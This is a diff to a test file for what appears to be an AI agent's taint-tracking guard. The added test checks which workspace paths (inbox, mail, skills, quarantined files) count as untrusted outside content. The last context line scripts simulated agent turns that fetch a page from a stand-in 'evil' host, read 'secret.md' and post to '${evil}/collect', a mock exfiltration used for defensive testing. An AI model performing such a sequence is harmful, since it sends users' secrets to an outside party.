@@ -139,6 +139,31 @@ test("the acting paths are the ones the specification lists", async () => {
   expect(listed.map((each) => each.slice(1, -1))).toEqual([...acting_paths]);
 });
 
+test("what a program is shown holds strangers' words where their place lies in it", () => {
+  inWorkspace(estate, "inbox/a/letter.txt", "x");
+  inWorkspace(estate, "src/a.ts", "x");
+  const root = join(estate.home.root, "workspace");
+  const none = { isQuarantined: () => false, beneath: () => [] };
+  const watch = taintWatch(defaultConfig(), { root }, none);
+  const strange = [".", "inbox", "inbox/a", "inbox/a/letter.txt", "src", "src/a.ts", "skills"];
+  expect(strange.filter(watch.isStrangeBeneath)).toEqual([".", "inbox", "inbox/a", "inbox/a/letter.txt", "skills"]);
+  expect(strange.filter(watch.isStrange)).toEqual(["inbox/a", "inbox/a/letter.txt"]);
+  const config = defaultConfig();
+  const narrow = { taint: { ...config.taint, outward_paths: ["src/gen/**"], untrusted_paths: ["mail/*/in/**"] } };
+  const other = taintWatch(narrow, { root }, none);
+  expect([...strange, "mail"].filter(other.isStrangeBeneath)).toEqual([]);
+  inWorkspace(estate, "mail/ada/in/b.txt", "x");
+  expect([".", "mail", "mail/ada", "mail/ada/in", "src"].filter(other.isStrangeBeneath)).toEqual([
+    ".",
+    "mail",
+    "mail/ada",
+    "mail/ada/in",
+  ]);
+  const quarantine = { isQuarantined: () => true, beneath: () => [{ path: "a", run: "r", sha256: "0", at: "0" }] };
+  const marked = taintWatch(narrow, { root }, quarantine);
+  expect([marked.isStrange("src/a.ts"), marked.isStrangeBeneath("src")]).toEqual([true, true]);
+});
+
 describe("the switch", () => {
   const turns = [get(`${evil}/page`), read("secret.md"), call("web_post", { url: `${evil}/collect` }), done];
 
